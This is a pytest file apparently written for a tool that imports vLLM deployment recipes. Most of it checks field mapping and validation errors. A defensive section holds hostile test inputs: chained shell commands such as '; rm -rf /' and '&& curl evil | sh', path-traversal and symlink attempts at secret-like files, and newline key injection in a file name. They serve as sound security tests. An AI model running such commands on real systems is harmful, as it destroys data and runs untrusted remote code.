"""`lanectl import jm`: a jm-recipe/v1 recipe (tests/fixtures/jm/…) as a lanectl/v1 recipe.

The fixture is this lane's J-M recipe, written here from the format's documented fields (its header says
which); the GB300 recipe in recipes/ must be what an import of it gives, except where h1/h2-REF differ
on purpose (DELIBERATE, each with its reason).
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from lanectl.commands.import_jm import import_jm_command, import_jm_recipe
from lanectl.errors import RecipeInvalid
from lanectl.project import Project
from lanectl.recipe.catalog import load_catalog
from lanectl.recipe.jm_import import import_jm
from lanectl.recipe.model import as_data
from lanectl.recipe.yaml_source import load_yaml
from tests.conftest import REPO
from tests.test_cli import lanectl

FIXTURE = REPO / "tests" / "fixtures" / "jm" / "dgx-station-gb300" / "deepseek-v4.1-flash-vllm-uva-dspark"
RECIPE_YAML = (FIXTURE / "recipe.yaml").read_text()
LAUNCH = (FIXTURE / "launch-command.txt").read_text()
SPECULATIVE = "--speculative-config"

# Where h1-REF (the GB300 recipe's defaults) differs from the import on purpose, and why.
DELIBERATE = {
    "description": "the lane's own description, not the recipe title",
    f"engine.args[{SPECULATIVE}]": "the release note's draft schedule [[1,8,5],[9,32,3]]; the public recipe's "
                                   "v14 run used [[1,4,5],[5,16,1]]",
    "engine.stop_timeout_seconds": "120 s for a clean vLLM shutdown; jm has no stop timeout (lanectl's default 30)",
    "health.generation_probe.prompt": "lanectl's probe; jm verifies health with /v1/models only",
    "health.request_timeout_seconds": "lanectl's probe timeout; not a jm field",
    "watchdog.*": "the watchdog's restart budget and GPU-memory wait are lanectl's; jm has no watchdog",
    "companions.rtx.*": "the RTX sidecar on the station's second GPU is not part of the public recipe",
    "engine.env.FLASHINFER_AUTOTUNE_CACHE_DIR": "keeps vLLM 0.33.0's managed autotune store in the cache volume, "
                                                "ready for the next pin; jm has no such variable",
    "image.download_kernels": "runs `vllm download-kernels` at build once the pin reaches 0.32.0; not a jm field",
}


def flat(value: Any, prefix: str = "") -> dict[str, Any]:
    if isinstance(value, dict):
        out: dict[str, Any] = {}
        for key, item in value.items():
            out.update(flat(item, f"{prefix}.{key}" if prefix else str(key)))
        return out
    return {prefix: value}


def deliberate_name(key: str) -> str:
    """A differing field under the name DELIBERATE gives it (whole sections as `section.*`)."""
    for section in ("watchdog.", "companions.rtx."):
        if key.startswith(section):
            return section + "*"
    return key


def without_speculative(args: list[str]) -> tuple[list[str], str]:
    at = args.index(SPECULATIVE)
    return args[:at + 1] + args[at + 2:], args[at + 1]


def imported_project(tmp_path: Path, text: str) -> Path:
    (tmp_path / "recipes").mkdir()
    (tmp_path / "recipes" / "imported.yaml").write_text(text)
    return tmp_path / "recipes"


def test_the_gb300_recipe_is_the_import_of_its_jm_recipe_except_where_deliberate(tmp_path):
    shipped = flat(as_data(load_catalog(Project.locate(REPO / "recipes")).lane("h1-REF").spec))
    recipes = imported_project(tmp_path, import_jm_recipe(FIXTURE, lane="h1-REF").text)
    imported = flat(as_data(load_catalog(Project.locate(recipes)).lane("h1-REF").spec))

    shipped_args, shipped_schedule = without_speculative(shipped.pop("engine.args"))
    imported_args, imported_schedule = without_speculative(imported.pop("engine.args"))
    # lanectl renders --shutdown-timeout from stop_timeout_seconds, which differs deliberately (DELIBERATE).
    assert shipped_args[-2:] == ["--shutdown-timeout", "105"] and imported_args[-2:] == ["--shutdown-timeout", "15"]
    assert shipped_args[:-2] == imported_args[:-2]
    assert json.loads(shipped_schedule)["num_speculative_tokens_per_batch_size"] == [[1, 8, 5], [9, 32, 3]]
    assert json.loads(imported_schedule)["num_speculative_tokens_per_batch_size"] == [[1, 4, 5], [5, 16, 1]]
    assert {k: v for k, v in json.loads(shipped_schedule).items() if k != "num_speculative_tokens_per_batch_size"} \
        == {k: v for k, v in json.loads(imported_schedule).items() if k != "num_speculative_tokens_per_batch_size"}

    differing = {key for key in shipped.keys() | imported.keys()
                 if shipped.get(key, "<absent>") != imported.get(key, "<absent>")}
    assert {deliberate_name(key) for key in differing} == set(DELIBERATE) - {f"engine.args[{SPECULATIVE}]"}
    # Everything the jm recipe says reached the lane, field by field.
    for key in ("image.base", "engine.env.VLLM_LOGGING_LEVEL", "engine.secret_env", "engine.ports",
                "engine.volumes", "engine.ipc", "engine.shm_size", "engine.gpus.device_ids", "health.models_path",
                "health.health_path",
                "health.served_model_name", "health.startup_budget_minutes", "health.startup_log.expect",
                "health.startup_log.forbid", "health.startup_log.stall"):
        assert imported[key] == shipped[key], key


def test_import_round_trips_into_a_recipe_that_validates(project):
    out = project / "recipes" / "imported.yaml"
    result = lanectl("import", "jm", str(FIXTURE), "--out", str(out), cwd=project)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[0] == f"wrote {out}"
    assert lanectl("validate", cwd=project).stdout == "ok: 1 lanes in 1 recipes (main)\n"
    again = lanectl("import", "jm", str(FIXTURE / "recipe.yaml"), cwd=project)
    assert again.stdout == out.read_text()


def test_jms_log_rules_are_mapped_to_what_vllm_0_31_0_prints():
    """jm forbids `Autotuning process starts` (which every 0.31.0 start logs) and expects `[Oo]ffload.*GiB`
    (which the UVA offload line never matches); the import maps both to what they meant. Its `Loaded 210 configs`
    becomes the stall's warm line: a start without it (the first on a new release) may retune once."""
    log = import_jm(load_yaml(RECIPE_YAML, "recipe.yaml"), LAUNCH, "launch-command.txt").recipe["defaults"][
        "health"]["startup_log"]
    assert log == {
        "expect": ["^Total CPU offloaded parameters: 60(\\.0+)?$", "^Engram table offloaded to pinned host memory: ",
                   "KV cache size: [0-9,]+ tokens"],
        "stall": [{"after": "Autotuning process starts", "until": "Autotuning process ends", "minutes": 10,
                   "name": "autotune", "why": "a warm cache ends it at once; a cold retune takes 74 min",
                   "warm": "Loaded 210 configs|Preloaded 210/[0-9]+ managed cache entries", "cold_minutes": 90}],
    }
    uva = re.compile(log["expect"][0])
    assert uva.search("Total CPU offloaded parameters: 60.0")
    assert not uva.search("Total CPU offloaded parameters: 0.01"), "an offload that did nothing fails the gate"


def test_without_a_cpu_offload_flag_jms_offload_rule_is_kept_as_written():
    launch = LAUNCH.replace("--cpu-offload-gb 60", "")
    assert "--cpu-offload-gb" not in launch
    log = import_jm(load_yaml(RECIPE_YAML, "recipe.yaml"), launch, "launch-command.txt").recipe["defaults"][
        "health"]["startup_log"]
    assert log["expect"][0] == "[Oo]ffload.*GiB"


def test_every_field_left_out_is_listed_with_its_location():
    result = import_jm(load_yaml(RECIPE_YAML, "recipe.yaml"), LAUNCH, "launch-command.txt")
    assert [(p.line, p.path) for p in result.unmapped] == [
        (11, "status"), (12, "owners"), (13, "updated"),
        (15, "model.name"), (16, "model.repo"), (17, "model.revision"), (18, "model.quantization"),
        (20, "hardware.profile"), (22, "hardware.observed.gpu"), (23, "hardware.observed.cuda"),
        (24, "hardware.observed.gpu_memory_visible_gib"), (25, "hardware.observed.snapshot"),
        (33, "launch.script"), (57, "metrics"),
        (65, "verification.gates.schema.how"), (66, "verification.gates.digest.how"),
        (67, "verification.gates.health.how"), (68, "verification.gates.quality.how"),
        (69, "verification.gates.performance.how"), (70, "limits"), (73, "rollback.script"),
        (74, "rollback.summary"),
    ]
    assert str(result.unmapped[0]) == "recipe.yaml:11:1: status: not mapped: 'verified'"
    text = import_jm_recipe(FIXTURE).text
    assert all(f"#   {problem}".replace("recipe.yaml", str(FIXTURE / "recipe.yaml")) in text
               for problem in result.unmapped)


def test_a_new_unknown_field_is_listed_not_dropped():
    doc = load_yaml(RECIPE_YAML.replace("  ipc: host\n", "  ipc: host\n  ulimits: {memlock: -1}\n"), "recipe.yaml")
    listed = [str(p) for p in import_jm(doc, LAUNCH, "launch-command.txt").unmapped]
    assert "recipe.yaml:43:13: launch.ulimits.memlock: not mapped: -1" in listed


@pytest.mark.parametrize(("recipe", "launch", "problem"), [
    (RECIPE_YAML.replace("schema: jm-recipe/v1", "schema: jm-recipe/v2"), LAUNCH,
     "recipe.yaml:8:9: schema: 'jm-recipe/v2' is not a J-M recipe schema lanectl knows; "
     "`lanectl import jm` reads jm-recipe/v1"),
    (RECIPE_YAML, LAUNCH.replace("vllm serve /model", "python3 -m sglang.launch_server"),
     "launch-command.txt:1:1: expected a `vllm serve …` command, found another command"),
    (RECIPE_YAML, LAUNCH.replace("'{\"cpu_offload\": true}'", "'{\"cpu_offload\": true}"),
     "launch-command.txt:8:19: unbalanced quotes: this ' is never closed"),
    (RECIPE_YAML.replace("digest: sha256:00d5", "digest: 00d5"), LAUNCH,
     "recipe.yaml:31:13: runtime.container.digest: expected sha256:<64 hex digits>"),
])
def test_bad_input_is_refused_with_its_location(recipe, launch, problem):
    with pytest.raises(RecipeInvalid) as caught:
        import_jm(load_yaml(recipe, "recipe.yaml"), launch, "launch-command.txt")
    assert [str(p) for p in caught.value.problems] == [problem]


def test_bad_input_exits_2_and_writes_nothing(tmp_path):
    folder = tmp_path / "jm"
    shutil.copytree(FIXTURE, folder)
    (folder / "launch-command.txt").write_text('vllm serve /model --served-model-name "m\n')
    out = tmp_path / "out.yaml"
    result = lanectl("import", "jm", str(folder), "--out", str(out), cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.splitlines()[0] == (f"{folder}/launch-command.txt:1:39: unbalanced quotes: "
                                             "this \" is never closed")
    assert not out.exists()


def test_import_never_overwrites(tmp_path):
    out = tmp_path / "mine.yaml"
    out.write_text("mine\n")
    result = lanectl("import", "jm", str(FIXTURE), "--out", str(out), cwd=tmp_path)
    assert (result.returncode, result.stderr) == (2, f"lanectl: {out} already exists; choose a new file\n")
    assert out.read_text() == "mine\n"


# --- a recipe from elsewhere: its launch file stays in its folder, its names cannot inject keys ------------

SECRET = "root:x:0:0:secret-first-line\n"


def jm_folder(tmp_path: Path, command_file: str | None = None) -> Path:
    folder = tmp_path / "jm"
    shutil.copytree(FIXTURE, folder)
    if command_file is not None:
        text = (folder / "recipe.yaml").read_text()
        (folder / "recipe.yaml").write_text(text.replace("command_file: launch-command.txt",
                                                         f"command_file: {json.dumps(command_file)}"))
    return folder


@pytest.mark.parametrize("where", ["absolute", "dot-dot", "link-out"])
def test_a_launch_file_outside_the_recipe_folder_is_refused_unread(tmp_path, where):
    outside = tmp_path / "secret.txt"
    outside.write_text(SECRET)
    if where == "absolute":
        folder = jm_folder(tmp_path, str(outside))
    elif where == "dot-dot":
        folder = jm_folder(tmp_path, "../secret.txt")
    else:
        folder = jm_folder(tmp_path, "cmd.txt")
        (folder / "cmd.txt").symlink_to(outside)
    out = tmp_path / "out.yaml"

    result = lanectl("import", "jm", str(folder), "--out", str(out), cwd=tmp_path)

    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith(f"{folder}/recipe.yaml:34:17: launch.command_file: ")
    assert ("must name a file inside the recipe's folder" in result.stderr
            or "is a link out of the recipe's folder" in result.stderr)
    assert "secret-first-line" not in result.stdout + result.stderr and "Traceback" not in result.stderr
    assert not out.exists()


def test_a_launch_file_that_is_not_vllm_serve_is_not_quoted_in_the_error(tmp_path):
    folder = jm_folder(tmp_path)
    (folder / "launch-command.txt").write_text("root:x:0:0 secret-first-line\n")

    result = lanectl("import", "jm", str(folder), cwd=tmp_path)

    assert result.returncode == 2
    assert result.stderr.splitlines()[0] == (f"{folder}/launch-command.txt:1:1: expected a `vllm serve …` "
                                             "command, found another command")
    assert "secret" not in result.stderr


def test_a_newline_in_the_launch_file_name_cannot_inject_keys(tmp_path):
    name = "cmd\nwatchdog: {max_restarts: 999}\n\u2028x: 1\u0085y: 2.txt"
    folder = jm_folder(tmp_path, name)
    (folder / name).write_text(LAUNCH)
    out = tmp_path / "recipes" / "imported.yaml"

    result = lanectl("import", "jm", str(folder), "--out", str(out), cwd=tmp_path)

    assert result.returncode == 0, result.stderr
    recipe = load_yaml(out.read_text(), "imported.yaml").data
    assert "watchdog" not in recipe["defaults"] and "watchdog" not in recipe
    assert set(recipe) == {"schema", "id", "description", "defaults", "lanes"}
    assert "cmd\\nwatchdog: {max_restarts: 999}\\n\\u2028x: 1\\u0085y: 2.txt" in out.read_text().splitlines()[0]


@pytest.mark.parametrize(("value", "shown"), [(".inf", "inf"), (".nan", "nan"), ("-5", "-5"), ("0", "0"),
                                              ("true", "True"), ("yes", "True")])
def test_a_timeout_that_is_not_a_positive_finite_number_is_refused_at_its_line(tmp_path, value, shown):
    folder = jm_folder(tmp_path)
    text = (folder / "recipe.yaml").read_text()
    (folder / "recipe.yaml").write_text(text.replace("timeout_s: 1200 ", f"timeout_s: {value} "))

    result = lanectl("import", "jm", str(folder), cwd=tmp_path)

    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.splitlines()[0] == (f"{folder}/recipe.yaml:48:16: health.ready.timeout_s: expected a "
                                             f"positive, finite number of seconds, got {shown}")


# --- import never writes what `validate` refuses: each input class that used to write an invalid recipe ----------

def mutated(tmp_path: Path, recipe: str = RECIPE_YAML, launch: str = LAUNCH) -> Path:
    folder = tmp_path / "jm"
    folder.mkdir()
    (folder / "recipe.yaml").write_text(recipe)
    (folder / "launch-command.txt").write_text(launch)
    return folder


INVALID_OUTPUT = [
    # (id, recipe.yaml edit or None, launch edit or None, where it is reported, what is said)
    ("port-true", ("ports: [30006]", "ports: [true]"), None,
     "recipe.yaml:35:11: launch.ports[0]", "expected a port number (1-65535), got True"),
    ("port-zero", ("ports: [30006]", "ports: [0]"), None,
     "recipe.yaml:35:11: launch.ports[0]", "greater than or equal to 1, got 0"),
    ("port-too-big", ("ports: [30006]", "ports: [70000]"), None,
     "recipe.yaml:35:11: launch.ports[0]", "less than or equal to 65535, got 70000"),
    ("port-twice", ("ports: [30006]", "ports: [30006, 30006]"), None,
     "recipe.yaml:35:18: launch.ports[1]", "host port 30006/tcp is already published"),
    ("env-secret", ("VLLM_LOGGING_LEVEL: INFO", "HF_TOKEN: abc"), None,
     "recipe.yaml:37:15: launch.env.HF_TOKEN", "looks like a secret"),
    ("env-name", ("VLLM_LOGGING_LEVEL: INFO", '"1BAD": x'), None,
     "recipe.yaml:37:13: launch.env.1BAD", "is not a valid environment variable name"),
    ("env-line-break", ("VLLM_LOGGING_LEVEL: INFO", 'X: "a\\nb"'), None,
     "recipe.yaml:37:8: launch.env.X", "holds a line break"),
    ("env-list", ("VLLM_LOGGING_LEVEL: INFO", "X: [1, 2]"), None,
     "recipe.yaml:37:8: launch.env.X", "expected a string or a number, got list of 2"),
    ("secret-name", ("secret_env: [HF_TOKEN]", 'secret_env: ["1X"]'), None,
     "recipe.yaml:38:16: launch.secret_env[0]", "'1X' is not a valid environment variable name"),
    ("volume-relative", ("container: /model, mode: ro", "container: model, mode: ro"), None,
     "recipe.yaml:40:104: launch.volumes[0].container", "must be an absolute path"),
    ("volume-colon", ("container: /model, mode: ro", "container: /mo:del, mode: ro"), None,
     "recipe.yaml:40:104: launch.volumes[0].container", "holds a ':'"),
    ("volume-host-and-volume", ("{volume: dsv41-vllm-cache, container: /root/.cache/vllm}",
                                "{host: /x, volume: v, container: /y}"), None,
     "recipe.yaml:41:7: launch.volumes[1]", "give host (a bind mount) or volume (a named volume), not both"),
    ("volume-neither", ("{volume: dsv41-vllm-cache, container: /root/.cache/vllm}", "{container: /y}"), None,
     "recipe.yaml:41:7: launch.volumes[1]", "give exactly one of 'source'"),
    ("volume-name", ("volume: dsv41-vllm-cache", 'volume: "bad name"'), None,
     "recipe.yaml:41:16: launch.volumes[1].volume", "is not a Docker volume name"),
    ("volume-twice", ("{volume: dsv41-vllm-cache, container: /root/.cache/vllm}",
                      "{volume: dsv41-vllm-cache, container: /model}"), None,
     "recipe.yaml:33:3: launch", "volumes mount the target '/model' twice"),
    ("ipc", ("ipc: host", "ipc: weird"), None,
     "recipe.yaml:42:8: launch.ipc", "Input should be 'host', 'private' or 'shareable'"),
    ("shm-size", ("shm_size: 16g", "shm_size: lots"), None,
     "recipe.yaml:43:13: launch.shm_size", "String should match pattern"),
    ("gpu", ('gpus: ["0"]', 'gpus: ["x"]'), None,
     "recipe.yaml:44:9: launch.gpus", "'x' is not a GPU index"),
    ("gpu-twice", ('gpus: ["0"]', 'gpus: ["0", "0"]'), None,
     "recipe.yaml:44:9: launch.gpus", "lists a GPU twice"),
    ("models-path", ("path: /v1/models", "path: v1/models"), None,
     "recipe.yaml:47:11: health.ready.path", "String should match pattern"),
    ("timeout-beyond-a-day", ("timeout_s: 1200 ", "timeout_s: 99999999 "), None,
     "recipe.yaml:48:16: health.ready.timeout_s", "less than or equal to 1440"),
    ("expect-regex", ('- "Loaded 210 configs"', '- "Loaded (210"'), None,
     "recipe.yaml:52:5: health.log_expect", "is not a valid regular expression"),
    ("forbid-regex", ('- "Autotuning process starts"', '- "Autotuning (process"'), None,
     "recipe.yaml:56:5: health.log_forbid", "is not a valid regular expression"),
    ("image", ("image: vllm/vllm-openai:deepseekv41-flash-0909", 'image: "Bad Image"'), None,
     "recipe.yaml:30:12: runtime.container.image", "is not a Docker image reference"),
    ("baked-secret-flag", None, ("--trust-remote-code", "--api-key sk-123"),
     "launch-command.txt:3:1: `vllm serve` argument 4", "--api-key would bake a secret"),
    ("no-model", None, (LAUNCH, "vllm serve\n"),
     "launch-command.txt:1:1", "`vllm serve` names no model"),
    ("title-not-a-string", ("title: DeepSeek", "title: [x]\ntitle2: DeepSeek"), None,
     "recipe.yaml:10:8: title", "expected str, got list"),
]


@pytest.mark.parametrize(("recipe_edit", "launch_edit", "where", "said"),
                         [case[1:] for case in INVALID_OUTPUT], ids=[case[0] for case in INVALID_OUTPUT])
def test_an_input_whose_recipe_validate_would_refuse_is_refused_at_its_jm_source(
        tmp_path, recipe_edit, launch_edit, where, said):
    recipe = RECIPE_YAML.replace(*recipe_edit) if recipe_edit else RECIPE_YAML
    launch = LAUNCH.replace(*launch_edit) if launch_edit else LAUNCH
    assert (recipe, launch) != (RECIPE_YAML, LAUNCH), "the edit must change the input"
    folder = mutated(tmp_path, recipe, launch)
    out = tmp_path / "recipes" / "imported.yaml"
    with pytest.raises(RecipeInvalid) as caught:
        import_jm_command(folder, out_file=out)
    shown = [str(problem) for problem in caught.value.problems]
    assert any(line.startswith(f"{folder}/{where}") and said in line for line in shown), shown
    assert not out.exists()


def test_every_problem_is_listed_and_the_cli_exits_2_writing_nothing(tmp_path):
    recipe = RECIPE_YAML.replace("ports: [30006]", "ports: [0]").replace("ipc: host", "ipc: weird")
    folder = mutated(tmp_path, recipe)
    out = tmp_path / "recipes" / "imported.yaml"
    result = lanectl("import", "jm", str(folder), "--out", str(out), cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        f"{folder}/recipe.yaml:35:11: launch.ports[0]: Input should be greater than or equal to 1, got 0 (the "
        "imported recipe's defaults.engine.ports[0].container)",
        f"{folder}/recipe.yaml:42:8: launch.ipc: Input should be 'host', 'private' or 'shareable', got 'weird' (the "
        "imported recipe's defaults.engine.ipc)",
        "2 problem(s); nothing was built or started.",
    ]
    assert not out.exists()


def test_a_lane_name_the_format_refuses_is_named_as_the_lane_option(tmp_path):
    with pytest.raises(RecipeInvalid) as caught:
        import_jm_command(mutated(tmp_path), lane="bad lane!")
    assert [str(p) for p in caught.value.problems] == [
        "--lane: lane name 'bad lane!' must match ^[A-Za-z0-9][A-Za-z0-9_.-]{0,62}$ (the imported recipe's lanes)"]


@pytest.mark.parametrize("named", ["folder", "file"])
def test_a_recipe_yaml_that_is_a_link_is_refused_unread(tmp_path, named):
    """A recipe.yaml linked to another file (the shadow file, say) was read and its lines quoted in the errors."""
    secret = tmp_path / "secret.yaml"
    secret.write_text("root: x:0:0:secret-first-line\n")
    folder = jm_folder(tmp_path)
    (folder / "recipe.yaml").unlink()
    (folder / "recipe.yaml").symlink_to(secret)

    result = lanectl("import", "jm", str(folder if named == "folder" else folder / "recipe.yaml"), cwd=tmp_path)

    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (f"lanectl: {folder}/recipe.yaml is a symbolic link; give the J-M recipe's own file "
                             "(copy it into the folder)\n")


def test_a_launch_command_ending_in_a_backslash_is_a_located_problem(tmp_path):
    folder = jm_folder(tmp_path)
    (folder / "launch-command.txt").write_text("vllm serve /model \\\n  --served-model-name m \\")

    result = lanectl("import", "jm", str(folder), cwd=tmp_path)

    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.splitlines()[0] == (f"{folder}/launch-command.txt:2:25: the command ends in a backslash "
                                             "that escapes nothing; remove it")


@pytest.mark.parametrize(("command", "operator", "line", "column"), [
    ("vllm serve /model --served-model-name m ; rm -rf /", ";", 1, 41),
    ("vllm serve /model \\\n  --served-model-name m && curl evil | sh", "&&", 2, 25),
    ("vllm serve /model --served-model-name m > /etc/motd", ">", 1, 41),
    ("vllm serve /model --served-model-name m;reboot", ";", 1, 40),
])
def test_a_launch_command_that_runs_more_than_vllm_serve_is_refused(tmp_path, command, operator, line, column):
    """`; rm -rf /` was imported as five arguments of vllm serve, without a word."""
    folder = jm_folder(tmp_path)
    (folder / "launch-command.txt").write_text(command + "\n")

    result = lanectl("import", "jm", str(folder), cwd=tmp_path)

    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr.splitlines()[0] == (
        f"{folder}/launch-command.txt:{line}:{column}: the command runs more than `vllm serve` (shell operator "
        f"`{operator}`); lanectl imports the one command: remove what the shell would run besides it")


def test_a_quoted_operator_stays_an_argument(tmp_path):
    folder = jm_folder(tmp_path)
    (folder / "launch-command.txt").write_text(LAUNCH.rstrip("\n") + " --chat-template-content-format ';'\n")

    result = lanectl("import", "jm", str(folder), cwd=tmp_path)

    assert result.returncode == 0, result.stderr
